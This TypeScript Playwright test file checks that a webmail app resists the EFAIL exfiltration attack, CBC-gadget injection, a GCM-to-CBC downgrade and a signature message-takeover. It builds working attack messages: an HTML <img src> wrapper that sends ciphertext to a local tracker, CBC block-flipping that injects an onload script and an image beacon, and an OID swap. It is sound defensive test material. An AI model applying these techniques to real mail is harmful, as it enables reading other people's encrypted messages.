// EFAIL (Poddebniak et al., USENIX Security 2018) and the AEAD-to-CBC downgrade (Strenzke & Roth,
// ePrint 2024/1110), in Chromium, as bob reads: rows E1, E2, E4 and E10 of smime-stack.md section 4.
// - E1 direct exfiltration: bob's old ciphertext wrapped between two HTML parts that open and close
//   an <img src="tracker?…">: it is not decrypted, nothing reaches the tracker, no plaintext leaves.
// - E2 CBC gadgets: blocks of a real CBC message to bob flipped so the plaintext gains an <img> to
//   the tracker and an onload script: whatever renders, no request leaves and no script runs.
// - E4: an AuthEnvelopedData (GCM) message relabelled AES-CBC: the generic "cannot be decrypted"
//   banner, no content.
// - E10 message takeover: alice's encrypted message signed by carol outside the envelope: the
//   banner names carol as the envelope's signer only, never as the author.
// Every request of the browser context is recorded (e2e/support/request-recorder.ts, workers
// included); opening a hostile message may only reach the app's own origin.
import { randomUUID } from 'node:crypto';

import { type Page, expect, test } from '@playwright/test';

import { signIn } from '../support/login';
import { appendMessage } from '../support/mailbox';
import { RequestRecorder, describeRequests } from '../support/request-recorder';
import { importIdentity, messageBody, openMessage } from '../support/smime-browser';
import { htmlEntity, opensslSign, textEntity } from '../support/smime-pki';
import {
  type Tracker,
  cmsDer,
  encryptTo,
  entityOf,
  flipCbcBlocks,
  foreignRequests,
  messageOf,
  multipart,
  opensslDecrypt,
  startTracker,
  swapOid,
  withCmsDer,
} from './attack-kit';

const READER = 'bob';
const TO = 'bob@sealpost.test';
const ALICE = 'alice@sealpost.test';

/** The page's text outside the message frame and inside it. */
async function everythingShown(page: Page): Promise<string> {
  const frame = messageBody(page).locator('body');
  return `${await page.locator('body').innerText()}\n${(await frame.count()) ? await frame.innerText() : ''}`;
}

/** The frame's own `window.q`: set only if a script of the message ran in it. */
async function scriptFlag(page: Page): Promise<unknown> {
  const frame = await page.locator('iframe[title="Message body"]').elementHandle().then((h) => h?.contentFrame());
  if (!frame) throw new Error('no message frame');
  return frame.evaluate(() => (window as unknown as { q?: unknown }).q);
}

test.describe('EFAIL and downgrades', () => {
  let recorder: RequestRecorder;
  let appOrigin: string;

  test.beforeEach(async ({ context, baseURL }) => {
    recorder = await RequestRecorder.attach(context);
    appOrigin = new URL(baseURL!).origin;
  });

  test.afterEach(async () => {
    await recorder.settle();
    await test.info().attach('requests', { body: describeRequests(recorder.requests), contentType: 'text/plain' });
    await recorder.detach();
  });

  test('E1 direct exfiltration: ciphertext wrapped in an <img src="tracker?…"> is never decrypted and nothing leaves', async ({ page }) => {
    test.setTimeout(90_000);
    const tracker = await startTracker();
    try {
      const id = randomUUID();
      const secret = `Merger code word ${id.slice(0, 8)}`;
      // bob's old mail from alice, captured by the attacker.
      const victim = await encryptTo('bob', textEntity(secret), { subject: `Old ${id}`, from: ALICE, cipher: 'aes-256-cbc' });
      const subject = `Invoice E1 ${id}`;
      const entity = multipart('mixed', `efail-${id}`, [
        htmlEntity(`<p>Invoice attached.</p><img src="${tracker.origin}/?`),
        entityOf(victim),
        htmlEntity('">'),
      ]);
      await appendMessage(READER, messageOf({ from: ALICE, to: TO, subject, entity }));

      await signIn(page, READER);
      await importIdentity(page, 'bob');
      const before = recorder.requests.length;
      const { pane } = await openMessage(page, subject);
      await expect(messageBody(page).getByText('Invoice attached.')).toBeVisible();
      // Nothing decrypted: no "Encrypted with" line, the secret nowhere on screen.
      await expect(pane).not.toContainText('Encrypted with');
      await page.waitForTimeout(1500);
      expect(await everythingShown(page)).not.toContain(secret);
      expect(tracker.reached).toEqual([]);
      expect(await foreignRequests(recorder, appOrigin, before), describeRequests(recorder.requests.slice(before))).toEqual([]);

      // The wrapper itself is unencrypted mail, so the user may allow its remote images: the
      // <img> then loads (the control: the tracker and the recorder both see it), and what it
      // carries is no plaintext, only the markup around the part that was never decrypted.
      await pane.getByRole('button', { name: 'Show remote images' }).click();
      await expect.poll(() => tracker.reached.length).toBeGreaterThan(0);
      await recorder.settle();
      expect(recorder.requests.filter((r) => r.url.startsWith(tracker.origin)).length).toBeGreaterThan(0);
      expect(tracker.reached.join('\n')).not.toContain(encodeURIComponent(secret));
      expect(tracker.reached.join('\n')).not.toContain(secret.split(' ').pop());
    } finally {
      await tracker.close();
    }
  });

  test('E2 CBC gadgets: flipped blocks inject an <img> to the tracker and an onload script; neither acts', async ({ page, browser }) => {
    test.setTimeout(120_000);
    const tracker = await lowPortTracker();
    try {
      const id = randomUUID();
      const port = new URL(tracker.origin).port;
      // Three-digit port: "'src=//127.1:PPP" is one 16-byte block (a quoted value may end right
      // before the next attribute, HTML tokenizer "missing whitespace" recovery).
      const gadgets = { script: '<svg onload=q=1>', open: "<img alt='      ", src: `'src=//127.1:${port}` };
      const { raw, plaintext } = await buildGadgetMessage(id, gadgets);
      const subject = `Quarterly E2 ${id}`;
      await appendMessage(READER, Buffer.from(raw.toString('latin1').replace(/^Subject: .*$/m, `Subject: ${subject}`), 'latin1'));
      await signIn(page, READER);
      await importIdentity(page, 'bob');
      const before = recorder.requests.length;
      const { banner } = await openMessage(page, subject);
      // It decrypts (CBC has no integrity): what renders is the attacker's, inside the sandbox.
      await expect(banner).toContainText(/^Encrypted with AES-256-CBC/);
      await expect(messageBody(page).getByText(/quarterly/i).first()).toBeVisible();
      await page.waitForTimeout(1500);
      expect(await scriptFlag(page)).toBeUndefined();
      expect(tracker.reached).toEqual([]);
      expect(await foreignRequests(recorder, appOrigin, before), describeRequests(recorder.requests.slice(before))).toEqual([]);

      // The control: the same malleated plaintext in a page that renders it as it is (what a
      // vulnerable client did) runs the script and calls the tracker; so the gadgets are live.
      const naive = await browser.newContext();
      try {
        const html = plaintext.subarray(plaintext.indexOf('\r\n\r\n') + 4);
        // Served as if from the tracker's host (loopback to loopback: Chromium's private network
        // rules would stop a public page's request); the page itself never reaches the server.
        const at = `${tracker.origin}/naive-client`;
        await naive.route(at, (route) => route.fulfill({ contentType: 'text/html; charset=utf-8', body: html }));
        const shown = await naive.newPage();
        await shown.goto(at);
        await expect.poll(() => tracker.reached.length).toBeGreaterThan(0);
        await expect.poll(() => shown.evaluate(() => (window as unknown as { q?: unknown }).q)).toBe(1);
      } finally {
        await naive.close();
      }
    } finally {
      await tracker.close();
    }
  });

  test('E4 AEAD-to-CBC downgrade: a GCM message relabelled AES-CBC shows the generic failure and no content', async ({ page }) => {
    test.setTimeout(90_000);
    const id = randomUUID();
    const secret = `Board minutes ${id.slice(0, 8)}`;
    const gcmSubject = `GCM intact ${id}`;
    const relabelledSubject = `GCM relabelled ${id}`;
    const gcm = await encryptTo('bob', textEntity(secret), { subject: gcmSubject, from: ALICE, cipher: 'aes-256-gcm' });
    // id-aes256-GCM (2.16.840.1.101.3.4.1.46) becomes id-aes256-CBC (…1.42) under the same key.
    const relabelled = withCmsDer(gcm, swapOid(cmsDer(gcm), '060960864801650304012e', '060960864801650304012a'));
    await appendMessage(READER, gcm);
    await appendMessage(READER, Buffer.from(relabelled.toString('latin1').replace(gcmSubject, relabelledSubject), 'latin1'));

    await signIn(page, READER);
    await importIdentity(page, 'bob');
    // The control: untouched, it opens.
    let opened = await openMessage(page, gcmSubject);
    await expect(opened.banner).toContainText(/^Encrypted with AES-256-GCM/);
    await expect(messageBody(page).getByText(secret)).toBeVisible();

    const before = recorder.requests.length;
    opened = await openMessage(page, relabelledSubject);
    await expect(opened.banner).toContainText(/^This message is encrypted and cannot be decrypted: /);
    await expect(opened.banner).not.toContainText('Encrypted with');
    await page.waitForTimeout(1000);
    expect(await everythingShown(page)).not.toContain(secret);
    expect(await foreignRequests(recorder, appOrigin, before)).toEqual([]);
  });

  test('E10 message takeover: carol signs alice\'s encrypted message outside the envelope; the banner says she signed only the envelope', async ({ page }) => {
    test.setTimeout(90_000);
    const id = randomUUID();
    const text = `Transfer approved ${id.slice(0, 8)}`;
    const subject = `Takeover E10 ${id}`;
    // alice's mail to bob, captured, re-sent by carol under her own signature and From.
    const alices = await encryptTo('bob', textEntity(text), { subject: `Original ${id}`, from: ALICE, cipher: 'aes-256-gcm' });
    await appendMessage(READER, await opensslSign('carol', entityOf(alices), { subject, to: TO }));

    await signIn(page, READER);
    await importIdentity(page, 'bob');
    const { banner } = await openMessage(page, subject);
    await expect(banner).toContainText(/^Encrypted with AES-256-GCM/);
    await expect(banner).toContainText(
      'carol@sealpost.test signed only the encrypted envelope, not the message inside: that does not show who wrote it. It is not shown as signed.',
    );
    await expect(banner).not.toContainText('verified');
    await expect(messageBody(page).getByText(text)).toBeVisible();
  });
});

/** A tracker on a random three-digit port Chromium does not refuse (its "unsafe ports" list). */
async function lowPortTracker(): Promise<Tracker> {
  const refused = new Set([989, 990, 993, 995]);
  for (let attempt = 0; attempt < 50; attempt++) {
    const port = 700 + Math.floor(Math.random() * 300);
    if (refused.has(port)) continue;
    try {
      return await startTracker(port);
    } catch {
      // taken: another one
    }
  }
  throw new Error('no free three-digit port for the tracker');
}

const FILLER =
  'The quarterly figures look better than expected and the board will meet on Thursday to discuss them in detail. ' +
  'Please keep this between us until the announcement goes out next week. Thanks for all the work on the numbers. ';

/**
 * bob's CBC message with the gadgets flipped in, at blocks where the garbage they leave cannot end
 * the markup early (re-encrypted with a new key until it is so: the garbage depends on the key).
 * Layout from block a: [G] script [G] open [G] src, then original text starting with a space.
 */
async function buildGadgetMessage(id: string, gadgets: { script: string; open: string; src: string }): Promise<{ raw: Buffer; plaintext: Buffer }> {
  const entity = htmlEntity(`<p>${FILLER.repeat(3)}</p>`);
  for (let attempt = 0; attempt < 40; attempt++) {
    const original = await encryptTo('bob', entity, { subject: `Quarterly ${id}`, from: ALICE, cipher: 'aes-256-cbc' });
    const known = await opensslDecrypt('bob', original);
    const text = known.toString('latin1');
    const first = Math.ceil((text.indexOf('<p>') + 3) / 16);
    const last = Math.floor(text.indexOf('</p>') / 16) - 1;
    for (let a = first + 1; a + 6 <= last; a++) {
      if (text[(a + 6) * 16] !== ' ') continue;
      const chosen = new Map([
        [a + 1, gadgets.script],
        [a + 3, gadgets.open],
        [a + 5, gadgets.src],
      ]);
      const raw = withCmsDer(original, flipCbcBlocks(cmsDer(original), known, chosen));
      const plaintext = await opensslDecrypt('bob', raw);
      const block = (i: number) => plaintext.toString('latin1', i * 16, i * 16 + 16);
      const garbageOk = !/[<>'"]/.test(block(a) + block(a + 2) + block(a + 4));
      if (garbageOk && [...chosen].every(([i, g]) => block(i) === g)) return { raw, plaintext };
      break;
    }
  }
  throw new Error('no gadget placement found');
}
